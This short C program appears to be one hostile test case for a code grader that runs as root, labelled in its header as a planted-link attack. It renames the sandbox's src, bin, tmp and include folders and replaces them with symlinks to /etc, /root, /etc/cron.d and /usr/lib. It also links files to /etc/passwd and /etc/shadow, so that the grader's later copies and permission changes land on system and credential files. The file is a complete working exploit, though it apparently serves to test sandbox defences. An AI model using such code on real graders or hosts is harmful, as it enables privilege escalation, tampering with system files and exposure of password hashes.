/* attack: replace the scratch folders with links to /etc and /root, so the next file the
 *         root grader copies, chmods or chowns lands there
 * family: planted links for the root grader
 * target: getpid_test
 * expect: nothing on stdout|could not be started
 */
#include <stdio.h>
#include <unistd.h>
int main(void)
{
    const char *dirs[] = {"/box/src", "/box/bin", "/box/tmp", "/box/include", 0};
    const char *to[] = {"/etc", "/root", "/etc/cron.d", "/usr/lib", 0};
    for (int i = 0; dirs[i]; i++) {
        char old[64];
        snprintf(old, sizeof old, "%s.old", dirs[i]);
        rename(dirs[i], old);
        symlink(to[i], dirs[i]);
    }
    symlink("/etc/passwd", "/box/src/getpid_test.c");
    symlink("/etc/shadow", "/tmp/pylab-grade-uid-64001.lock");
    return 7;
}
